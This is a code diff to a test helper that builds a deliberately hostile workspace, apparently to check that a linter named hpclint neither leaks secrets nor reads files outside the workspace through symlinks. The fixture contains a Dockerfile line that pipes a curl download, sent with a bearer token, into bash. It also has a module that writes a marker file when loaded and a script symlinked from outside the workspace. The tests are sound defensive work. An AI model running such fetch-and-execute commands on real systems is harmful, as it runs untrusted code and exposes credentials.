@@ -38,6 +38,9 @@ function hostileWorkspace(name: string): { root: string; marker: string; outside
       `ENV DB_PASSWORD=${SECRET}2 API_KEY=${SECRET}3`,
       'RUN curl -H "Authorization: Bearer $GITLAB_TOKEN" https://example.org/x | bash',
       'RUN gcc -march=native -o /usr/local/bin/app app.c && echo $UNQUOTED',
+      // A copied script that links out of the workspace: hpclint says it cannot see inside and reads nothing there.
+      'COPY build.sh /opt/build.sh',
+      'RUN sh /opt/build.sh',
       '',
     ].join('\n'),
   );
@@ -52,6 +55,8 @@ function hostileWorkspace(name: string): { root: string; marker: string; outside
   }
   writeFileSync(join(root, 'evil.js'), `require('node:fs').writeFileSync(${JSON.stringify(marker)}, 'loaded'); module.exports = {};\n`);
   writeFileSync(join(outside, 'secret.yaml'), `rules:\n  ${SECRET}7: off\n`);
+  writeFileSync(join(outside, 'build.sh'), `git clone https://example.org/${SECRET}8.git\n`);
+  symlinkSync(join(outside, 'build.sh'), join(root, 'build.sh'));
   mkdirSync(join(root, 'linked'));
   symlinkSync(join(outside, 'secret.yaml'), join(root, 'linked', '.hpclint.yaml'));
   writeFileSync(join(root, 'linked', 'Dockerfile'), 'FROM ubuntu:24.04\n');
